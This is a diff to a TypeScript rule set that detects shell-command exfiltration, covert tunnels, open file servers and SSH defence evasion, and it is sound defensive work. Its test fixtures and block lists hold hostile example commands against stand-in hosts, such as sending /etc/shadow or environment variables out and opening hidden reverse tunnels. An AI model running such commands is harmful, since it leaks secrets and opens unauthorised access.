@@ -6,6 +6,13 @@ import { isAmong, normalised, pathsNamed, sharedFolder } from './paths.ts';
 import { sensitive } from './collection.ts';
 import { hashStores, lookers, names, userStores } from './stores.ts';
 
+const askers = names('dig nslookup host drill ping ping6 hping3 kdig resolvectl');
+const textEncoders = names('base64 base32 xxd b64encode');
+const servers = names('updog miniserve webfsd');
+const copiers = names('scp rsync sftp tftp ftp');
+const proxies = names('torsocks torify proxychains proxychains4 tor');
+const covertTunnels = names('iodine iodined dnscat dnscat2 ptunnel ptunnel-ng udp2raw icmptunnel hans gost');
+
 function sentFiles(program: Program): string[] {
   const words = program.args
     .flatMap((word) => word.split(/(?=@)/))
@@ -27,7 +34,17 @@ const sends = (program: Program): boolean =>
   hasOption(
     program,
     'TFd',
-    ...['--upload-file', '--form', '--data', '--data-binary', '--data-raw', '--data-urlencode', '--post-file', '--post-data', '--body-file'],
+    ...[
+      '--upload-file',
+      '--form',
+      '--data',
+      '--data-binary',
+      '--data-raw',
+      '--data-urlencode',
+      '--post-file',
+      '--post-data',
+      '--body-file',
+    ],
   );
 
 /** Programs that copy files to another machine, and how a place on one looks among their words. */
@@ -43,7 +60,13 @@ function carried(program: Program): string | undefined {
   return words
     .filter((word) => word !== to || words.includes('send'))
     .map((word) => normalised(word, program.directory))
-    .find((path) => isAmong(path, hashStores) || isAmong(path, userStores) || /^\/etc\/(passwd|sudoers)$|^~\/\.(ssh|aws|gnupg|\w*_history)$/.test(path) || (sensitive(path) && /\/[^/]*(loot|dump|creds?|secrets?|exfil|stage)/i.test(path)));
+    .find(
+      (path) =>
+        isAmong(path, hashStores) ||
+        isAmong(path, userStores) ||
+        /^\/etc\/(passwd|sudoers)$|^~\/\.(ssh|aws|gnupg|\w*_history)$/.test(path) ||
+        (sensitive(path) && /\/[^/]*(loot|dump|creds?|secrets?|exfil|stage)/i.test(path)),
+    );
 }
 
 function sentSource(program: Program, reading: ShellReading): Program | undefined {
@@ -56,7 +79,7 @@ const readers = names('cat base64 base32 xxd tar gzip zip hexdump od head tail d
 
 /** Names asked of the DNS, and pings, that carry what another program gave. */
 function carriesInQuestion(program: Program, reading: ShellReading): boolean {
-  if (!names('dig nslookup host drill ping ping6 hping3 kdig resolvectl').has(program.name)) return false;
+  if (!askers.has(program.name)) return false;
   const filled = program.args.some((word) => /\$\(|\$\w|\$\{/.test(word));
   const padded = program.name.startsWith('ping') && /(^| )-p/.test(joined(program)) && optionValue(program, '-p') !== null;
   const source = sourcesOf(program, reading).some((candidate) => encoders.has(candidate.name) || asksWhoIAm.has(candidate.name));
@@ -85,7 +108,8 @@ export const exfiltration: readonly Rule[] = [
       const taken = carried(program);
       if (taken !== undefined) return `sends ${taken.slice(0, 80)} to another machine`;
       const uploads = isDownloader(program);
-      if (!uploads && !isSocket(program)) return null;
+      const remote = program.name === 'ssh' && program.pipedFrom !== null;
+      if (!uploads && !remote && !isSocket(program)) return null;
       const file = uploads
         ? sentFiles(program).find(sensitive)
         : program.redirects
@@ -112,6 +136,7 @@ export const exfiltration: readonly Rule[] = [
       'rsync -a ~/.ssh h:/x',
       'aws s3 cp /etc/shadow s3://b/',
       'rclone copy /tmp/loot remote:x',
+      'tar cz /etc | ssh ann@h "cat > x"',
     ],
     harmless: [
       'curl -T build.zip https://h',
@@ -146,10 +171,15 @@ export const exfiltration: readonly Rule[] = [
     points: 30,
     find(program, reading) {
       if (rawChannel(program)) return `moves data with ${program.name}, which is not for it`;
-      if (program.redirects.some(({ operator, target }) => socketFile.test(target) && operator.startsWith('>')) && readers.has(program.name))
+      if (
+        program.redirects.some(({ operator, target }) => socketFile.test(target) && operator.startsWith('>')) &&
+        readers.has(program.name)
+      )
         return 'writes what it reads to the network';
       if (!isSocket(program)) return null;
-      const file = program.redirects.find(({ operator, target }) => operator === '<' && /^[/~]/.test(target) && !target.startsWith('/dev/'))?.target;
+      const file = program.redirects.find(
+        ({ operator, target }) => operator === '<' && /^[/~]/.test(target) && !target.startsWith('/dev/'),
+      )?.target;
       if (file !== undefined) return `sends ${file.slice(0, 60)} over a bare connection`;
       const packed = sourcesOf(program, reading).find(({ name }) => encoders.has(name) && name !== 'gzip');
       if (packed !== undefined) return `sends what ${packed.name} has encoded over a bare connection`;
@@ -166,7 +196,15 @@ export const exfiltration: readonly Rule[] = [
       'whois -h h -p 1 "$(cat x)"',
       'openssl s_client -quiet -connect h:1 < /srv/x',
     ],
-    harmless: ['nc -zv h 22', 'echo x | nc h 1', 'socat - tcp:h:80', 'openssl s_client -connect h:443', 'whois example.org', 'nc h 1 < request.txt', 'openssl s_client -connect h:443 < /dev/null'],
+    harmless: [
+      'nc -zv h 22',
+      'echo x | nc h 1',
+      'socat - tcp:h:80',
+      'openssl s_client -connect h:443',
+      'whois example.org',
+      'nc h 1 < request.txt',
+      'openssl s_client -connect h:443 < /dev/null',
+    ],
   },
   {
     code: 'REPORTS_BACK',
@@ -175,15 +213,30 @@ export const exfiltration: readonly Rule[] = [
     find(program, reading) {
       if (!isDownloader(program) && !isSocket(program)) return null;
       const sources = sourcesOf(program, reading);
-      const told = sources.find(({ name }) => asksWhoIAm.has(name));
+      const told = sources.find(({ name, args }) => asksWhoIAm.has(name) && (name !== 'uname' || args.includes('-a')));
       const carries = sends(program) || isSocket(program) || program.args.some((word) => /[?/=]?\$\(/.test(word));
       if (told !== undefined && carries) return `reports what ${told.name} tells to another machine`;
-      const encoded = sources.find(({ name }) => names('base64 base32 xxd b64encode').has(name));
+      const encoded = sources.find(({ name }) => textEncoders.has(name));
       if (encoded !== undefined && sends(program) && isDownloader(program)) return 'reports something encoded to another machine';
-      return program.args.some((word) => /\.onion([:/]|$)/.test(word)) ? 'talks to a hidden service' : null;
+      if (program.args.some((word) => /\.onion([:/]|$)/.test(word))) return 'talks to a hidden service';
+      return program.args.some((word) => /^(https?:\/\/)?[\w+-]{6,}={1,2}\.[\w-]+\./.test(word))
+        ? 'puts something encoded into the name of a machine'
+        : null;
     },
-    suspicious: ['curl "http://h/?u=$(whoami)"', 'id | nc h 1', 'env | curl -d @- http://h', 'curl -d "$(base64 x)" http://h', 'curl --socks5-hostname localhost:9050 http://x.onion/'],
-    harmless: ['curl http://h/$(uname -m).tgz', 'curl -d "host=$(hostname)" http://h', 'curl http://h/$VERSION', 'curl -o docker-compose "https://h/$(uname -s)-$(uname -m)"'],
+    suspicious: [
+      'curl aGVsbG8gdGhlcmU=.example.com',
+      'curl "http://h/?u=$(whoami)"',
+      'id | nc h 1',
+      'env | curl -d @- http://h',
+      'curl -d "$(base64 x)" http://h',
+      'curl --socks5-hostname localhost:9050 http://x.onion/',
+    ],
+    harmless: [
+      'curl http://h/$(uname -m).tgz',
+      'curl -d "host=$(hostname)" http://h',
+      'curl http://h/$VERSION',
+      'curl -o docker-compose "https://h/$(uname -s)-$(uname -m)"',
+    ],
   },
   {
     code: 'FILE_SERVER',
@@ -192,9 +245,12 @@ export const exfiltration: readonly Rule[] = [
     find(program) {
       const words = joined(program);
       const served =
-        (isInterpreter(program) && /-m (http\.server|SimpleHTTPServer|pyftpdlib|uploadserver)|-S (0\.0\.0\.0|\[::\])|-run -e ?httpd|HTTPServer|http\.createServer/i.test(words)) ||
+        (isInterpreter(program) &&
+          /-m (http\.server|SimpleHTTPServer|pyftpdlib|uploadserver)|-S (0\.0\.0\.0|\[::\])|-run -e ?httpd|HTTPServer|http\.createServer/i.test(
+            words,
+          )) ||
         (program.name === 'httpd' && program.via.includes('busybox')) ||
-        names('updog miniserve webfsd').has(program.name);
+        servers.has(program.name);
       return served ? 'hands out files to whoever asks' : null;
     },
     suspicious: ['python3 -m http.server 80', 'php -S 0.0.0.0:80', 'busybox httpd -f -p 80', 'ruby -run -e httpd .'],
@@ -206,10 +262,16 @@ export const exfiltration: readonly Rule[] = [
     points: 15,
     find(program, reading) {
       if (tunnels(program)) return `opens a way in from outside with ${program.name}`;
-      const proxied = names('torsocks torify proxychains proxychains4 tor').has(program.name) || program.args.some((word) => /^socks[45]h?(a|-hostname)?:\/\/(127|localhost)/.test(word));
+      const proxied = proxies.has(program.name) || program.args.some((word) => /^socks[45]h?(a|-hostname)?:\/\/(127|localhost)/.test(word));
       return proxied && !isShell(program) && reading.programs.length > 0 ? 'hides where it comes from' : null;
     },
-    suspicious: ['ssh -R 8080:localhost:80 h', 'ngrok tcp 22', 'cloudflared tunnel --url localhost:8080', 'proxychains4 curl h', 'socat TCP-LISTEN:80,fork TCP:h:80'],
+    suspicious: [
+      'ssh -R 8080:localhost:80 h',
+      'ngrok tcp 22',
+      'cloudflared tunnel --url localhost:8080',
+      'proxychains4 curl h',
+      'socat TCP-LISTEN:80,fork TCP:h:80',
+    ],
     harmless: ['ssh -L 8080:localhost:80 h', 'ngrok version', 'cloudflared tunnel list', 'ssh h ls -R'],
   },
   {
@@ -217,13 +279,24 @@ export const exfiltration: readonly Rule[] = [
     tactic: 'COMMAND_AND_CONTROL',
     points: 30,
     find(program) {
-      const covert = names('iodine iodined dnscat dnscat2 ptunnel ptunnel-ng udp2raw icmptunnel hans gost frpc frps rathole').has(program.name);
+      const covert = covertTunnels.has(program.name);
       if (covert) return `opens a hidden way in or out with ${program.name}`;
-      const quiet = program.redirects.some(({ target }) => target === '/dev/null') || program.via.includes('nohup') || program.via.includes('setsid') || sharedFolder.test(program.path);
-      const open = (program.name === 'ssh' && /(^| )-\w*[fN]\w*.* -\w*R/.test(joined(program)) && /StrictHostKeyChecking=no/.test(joined(program))) || false;
+      const quiet =
+        program.redirects.some(({ target }) => target === '/dev/null') ||
+        program.via.includes('nohup') ||
+        program.via.includes('setsid') ||
+        sharedFolder.test(program.path);
+      const open =
+        (program.name === 'ssh' && /(^| )-\w*[fN]\w*.* -\w*R/.test(joined(program)) && /StrictHostKeyChecking=no/.test(joined(program))) ||
+        false;
       return (tunnels(program) && quiet) || open ? `opens a way in from outside with ${program.name}, out of sight` : null;
     },
-    suspicious: ['nohup ngrok tcp 22', 'cloudflared tunnel --url localhost:22 >/dev/null 2>&1', 'iodine -f x t.example.com', 'ssh -f -N -o StrictHostKeyChecking=no -R 2222:localhost:22 h'],
+    suspicious: [
+      'nohup ngrok tcp 22',
+      'cloudflared tunnel --url localhost:22 >/dev/null 2>&1',
+      'iodine -f x t.example.com',
+      'ssh -f -N -o StrictHostKeyChecking=no -R 2222:localhost:22 h',
+    ],
     harmless: ['ssh -N -L 1:h:2 h', 'nohup node server.js', 'cloudflared --version', 'ngrok help'],
   },
   {
@@ -231,10 +304,12 @@ export const exfiltration: readonly Rule[] = [
     tactic: 'EXFILTRATION',
     points: 15,
     find(program) {
-      if (!names('scp rsync sftp tftp ftp').has(program.name)) return null;
+      if (!copiers.has(program.name)) return null;
       const words = operands(program);
       const shared = words.filter((word) => sharedFolder.test(word.replace(/^[^/]*:/, '')));
-      return shared.length > 0 && words.some((word) => /^[\w.-]+(@[\w.-]+)?:/.test(word)) ? 'carries files from a shared folder to another machine, or there' : null;
+      return shared.length > 0 && words.some((word) => /^[\w.-]+(@[\w.-]+)?:/.test(word))
+        ? 'carries files from a shared folder to another machine, or there'
+        : null;
     },
     suspicious: ['scp /tmp/x ann@h:/tmp/', 'rsync -r /tmp/d/ ann@h:/tmp/d', 'scp ann@h:/x /tmp/'],
     harmless: ['scp x ann@h:', 'rsync -a src h:/srv', 'scp /tmp/a /tmp/b'],
@@ -244,7 +319,8 @@ export const exfiltration: readonly Rule[] = [
     tactic: 'DEFENCE_EVASION',
     points: 15,
     find: (program) =>
-      /^(ssh|scp|sftp|rsync|sshpass)$/.test(program.name) && /(?=.*StrictHostKeyChecking[= ]no)(?=.*UserKnownHostsFile[= ]\/dev\/null)/.test(joined(program))
+      /^(ssh|scp|sftp|rsync|sshpass)$/.test(program.name) &&
+      /(?=.*StrictHostKeyChecking[= ]no)(?=.*UserKnownHostsFile[= ]\/dev\/null)/.test(joined(program))
         ? 'leaves no trace of the machine it connects to'
         : null,
     suspicious: ['scp -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null x h:'],
@@ -256,7 +332,7 @@ const tunnels = shows([
   ['ssh autossh', /(^| )-[a-zA-Z]*R ?\S*\d/],
   ['ngrok', /^(tcp|http|tls|start)\b/],
   ['cloudflared', /^(tunnel|access).*(--url|run|--token|ssh|tcp)/],
-  ['lt localtunnel bore zrok pagekite', /\S/],
+  ['lt localtunnel bore zrok pagekite frpc frps rathole', /\S/],
   ['socat', /(tcp|udp)\w*-listen:\d+.*(tcp|udp)\d?(-connect)?:/i],
   ['tailscale', /^funnel/],
 ]);
